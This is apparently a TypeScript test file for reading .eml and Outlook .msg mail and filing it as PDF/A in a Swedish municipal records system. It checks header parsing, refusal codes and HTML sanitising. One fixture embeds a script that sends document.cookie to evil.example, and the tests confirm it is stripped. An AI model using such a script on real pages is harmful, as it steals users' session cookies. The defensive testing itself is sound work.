/**
 * Reading e-mail to file it: real .eml text (multipart, quoted-printable, base64 attachments,
 * HTML with scripts) and real Outlook .msg compound files (sync-server/src/demo/msg-writer.ts), then the files the
 * document gets, the mail as PDF/A checked with pdftotext.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { PDFDocument } from 'pdf-lib';
import { MAIL_LIMITS, MailReadError, type MailReadErrorCode } from '../../../shared/src/mail';
import { readMail } from '../../../renderer/src/lib/mail/read-mail';
import { prepareMail } from '../../../renderer/src/lib/commands/mail';
import { liberationSans } from '../../fonts';
import { buildMsg } from '../../../sync-server/src/demo/msg-writer';

const enc = (s: string) => new TextEncoder().encode(s);
const PDF_BYTES = '%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n';
const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

function eml(
  o: { html?: string; text?: string; attachments?: { name: string; type: string; body: string }[]; headers?: string } = {},
): string {
  const parts: string[] = [];
  if (o.text !== undefined)
    parts.push(`Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n${o.text}\r\n`);
  if (o.html !== undefined) parts.push(`Content-Type: text/html; charset=utf-8\r\n\r\n${o.html}\r\n`);
  for (const a of o.attachments ?? [])
    parts.push(
      `Content-Type: ${a.type}; name="${a.name}"\r\nContent-Disposition: attachment; filename="${a.name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${b64(a.body)}\r\n`,
    );
  return (
    (o.headers ??
      'From: =?utf-8?Q?Karin_Svensson?= <karin@example.se>\r\nTo: Kommunen <diarium@kommun.se>\r\nCc: chef@kommun.se\r\n' +
        'Subject: =?utf-8?Q?SV:_Ans=C3=B6kan_om_bygglov_KS_2026-00042?=\r\nDate: Tue, 01 Dec 2026 09:30:00 +0100\r\n' +
        'Message-ID: <m2@example.se>\r\nIn-Reply-To: <m1@kommun.se>\r\nReferences: <m0@kommun.se> <m1@kommun.se>\r\n') +
    'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="XX"\r\n\r\n' +
    parts.map((p) => `--XX\r\n${p}`).join('') +
    '--XX--\r\n'
  );
}

async function refusal(bytes: Uint8Array): Promise<MailReadErrorCode> {
  try {
    await readMail(bytes);
  } catch (e) {
    if (e instanceof MailReadError) return e.code;
    throw e;
  }
  throw new Error('read without refusal');
}

describe('reading an .eml', () => {
  it('takes sender, recipients, subject, date, thread ids, the text and the attachments', async () => {
    const m = await readMail(
      enc(
        eml({
          text: 'Hej!=0AH=C3=A4r kommer ritningen.',
          attachments: [{ name: 'ritning.pdf', type: 'application/pdf', body: PDF_BYTES }],
        }),
      ),
    );
    expect(m).toMatchObject({
      format: 'eml',
      subject: 'SV: Ansökan om bygglov KS 2026-00042',
      from: { name: 'Karin Svensson', address: 'karin@example.se' },
      to: [{ name: 'Kommunen', address: 'diarium@kommun.se' }],
      cc: [{ name: '', address: 'chef@kommun.se' }],
      date: '2026-12-01T08:30:00.000Z',
      messageId: '<m2@example.se>',
      inReplyTo: '<m1@kommun.se>',
      references: ['<m0@kommun.se>', '<m1@kommun.se>'],
      fromHtml: false,
    });
    expect(m.text.trim()).toBe('Hej!\nHär kommer ritningen.');
    expect(m.attachments.map((a) => [a.filename, a.mimeType, new TextDecoder().decode(a.bytes)])).toEqual([
      ['ritning.pdf', 'application/pdf', PDF_BYTES],
    ]);
  });

  it('turns an HTML-only body into text: no script, no markup survives', async () => {
    const m = await readMail(
      enc(eml({ html: '<p>Hej</p><script>fetch("https://evil.example/"+document.cookie)</script><p onclick="x()">då</p>' })),
    );
    expect(m.fromHtml).toBe(true);
    expect(m.text).toBe('Hej\ndå');
  });

  it.each<[string, Uint8Array, MailReadErrorCode]>([
    ['an empty file', new Uint8Array(), 'empty'],
    ['a PDF', enc(PDF_BYTES), 'not_mail'],
    ['binary garbage', Uint8Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256), 'not_mail'],
    ['plain text', enc('Hej, detta är bara text.\nInget brev.'), 'not_mail'],
    [
      'an OLE file that is not a message',
      Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Array(600).fill(0)]),
      'malformed',
    ],
  ])('refuses %s with a specific code', async (_, bytes, code) => {
    expect(await refusal(bytes)).toBe(code);
  });

  it('refuses a mail with more attachments than it may hold, and one larger than a file may be', async () => {
    const many = Array.from({ length: MAIL_LIMITS.maxAttachments + 1 }, (_, i) => ({
      name: `b${i}.pdf`,
      type: 'application/pdf',
      body: PDF_BYTES,
    }));
    expect(await refusal(enc(eml({ text: 'x', attachments: many })))).toBe('too_many_attachments');
    const huge = new Uint8Array(MAIL_LIMITS.maxMailBytes + 1);
    huge.set(enc('From: a@b\r\nSubject: x\r\n\r\n'));
    expect(await refusal(huge)).toBe('too_large');
  });
});

describe('reading an Outlook .msg', () => {
  const spec = {
    subject: 'Ansökan om bygglov',
    senderName: 'Karin Svensson',
    senderAddress: 'karin@example.se',
    submitTime: '2026-12-01T09:30:00Z',
    transportHeaders: 'Message-ID: <abc@example.se>\r\nIn-Reply-To: <x@kommun.se>\r\nReferences: <w@kommun.se>\r\n <x@kommun.se>\r\n',
    recipients: [
      { name: 'Registrator', address: 'diarium@kommun.se', kind: 'to' as const },
      { name: 'Chef', address: 'chef@kommun.se', kind: 'cc' as const },
    ],
    attachments: [{ filename: 'ritning.pdf', bytes: enc(PDF_BYTES) }],
  };

  it('takes the same things from the MAPI properties', async () => {
    const m = await readMail(buildMsg({ ...spec, body: 'Hej!\r\nHär kommer ansökan.' }));
    expect(m).toMatchObject({
      format: 'msg',
      subject: 'Ansökan om bygglov',
      from: { name: 'Karin Svensson', address: 'karin@example.se' },
      to: [{ name: 'Registrator', address: 'diarium@kommun.se' }],
      cc: [{ name: 'Chef', address: 'chef@kommun.se' }],
      date: '2026-12-01T09:30:00.000Z',
      messageId: '<abc@example.se>',
      inReplyTo: '<x@kommun.se>',
      references: ['<w@kommun.se>', '<x@kommun.se>'],
      text: 'Hej!\nHär kommer ansökan.',
    });
    expect(m.attachments.map((a) => [a.filename, new TextDecoder().decode(a.bytes)])).toEqual([['ritning.pdf', PDF_BYTES]]);
  });

  it('an HTML-only .msg body becomes text', async () => {
    const m = await readMail(buildMsg({ ...spec, bodyHtml: '<p>Hej</p><script>alert(1)</script>' }));
    expect([m.text, m.fromHtml]).toEqual(['Hej', true]);
  });

  it('refuses a truncated .msg as malformed, not half read', async () => {
    const whole = buildMsg({ ...spec, body: 'x' });
    expect(await refusal(whole.subarray(0, 700))).toBe('malformed');
  });
});

describe('preparing the files of a filed mail', () => {
  const dir = mkdtempSync(path.join(tmpdir(), 'mail-pdf-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));
  const now = Date.parse('2026-12-07T10:00:00Z');

  it('keeps the mail, adds it as PDF/A with its text, takes the attachments it can and says why not the others', async () => {
    const bytes = eml({
      html: '<p>Hej kommunen,</p><p>här är ritningen för Storgatan 1.</p><script>alert("x")</script>',
      attachments: [
        { name: 'ritning.pdf', type: 'application/pdf', body: PDF_BYTES },
        { name: 'program.exe', type: 'application/octet-stream', body: 'MZ....' },
      ],
    });
    const file = new File([bytes], 'ansokan.eml', { type: 'message/rfc822' });
    const result = await prepareMail(file, async () => liberationSans, now);
    if (!result.ok) throw new Error(result.problem);
    const { prepared } = result;
    expect(prepared.files.map((f) => f.name)).toEqual(['ansokan.eml', 'SV Ansökan om bygglov KS 2026-00042.pdf', 'ritning.pdf']);
    expect(prepared.refused).toEqual([{ name: 'program.exe', reason: expect.stringContaining('program.exe') }]);
    expect(prepared.fields).toMatchObject({
      direction: 'incoming',
      title: 'SV: Ansökan om bygglov KS 2026-00042',
      receivedDate: '2026-12-01',
    });
    expect(prepared.recipients).toBe('Kommunen <diarium@kommun.se>, chef@kommun.se');
    expect(prepared.caseNumbers).toEqual([{ prefix: 'KS', year: 2026, serial: 42, documentSerial: null }]);

    const pdf = new Uint8Array(await prepared.files[1]!.arrayBuffer());
    expect((await PDFDocument.load(pdf, { updateMetadata: false })).getTitle()).toBe('SV: Ansökan om bygglov KS 2026-00042');
    const file1 = path.join(dir, 'mail.pdf');
    writeFileSync(file1, pdf);
    if (!existsSync('/usr/bin/pdftotext')) throw new Error('pdftotext is required by this test (apt-get install poppler-utils)');
    const text = spawnSync('/usr/bin/pdftotext', ['-layout', file1, '-']).stdout.toString('utf8').replace(/\s+/g, ' ');
    expect(text).toContain('Från Karin Svensson <karin@example.se>');
    expect(text).toContain('Till Kommunen <diarium@kommun.se>');
    expect(text).toContain('här är ritningen för Storgatan 1.');
    expect(text).toContain('Bilagor ritning.pdf, program.exe');
    expect(text).not.toContain('alert');
  });

  it('a mail that cannot be read gives the Swedish reason and no files', async () => {
    const result = await prepareMail(new File([enc('bara text')], 'brev.eml'), async () => liberationSans, now);
    expect(result).toEqual({ ok: false, problem: 'Filen brev.eml är inte ett e-postmeddelande (.eml eller Outlook .msg).' });
  });
});
